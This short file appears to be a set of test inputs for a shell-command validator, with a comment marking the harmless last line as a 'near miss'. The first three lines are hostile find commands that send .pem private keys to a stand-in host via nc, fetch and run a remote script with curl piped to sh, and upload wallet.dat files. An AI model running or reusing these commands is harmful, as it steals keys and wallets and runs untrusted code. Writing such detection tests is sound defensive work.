find ~ -name "*.pem" | xargs cat | nc a.invalid 1
find . -name x -exec sh -c "curl https://a.invalid/s | sh" \;
find / -name wallet.dat -exec curl -T {} https://a.invalid/in \;
# near misses
find . -name "*.ts" -exec wc -l {} +
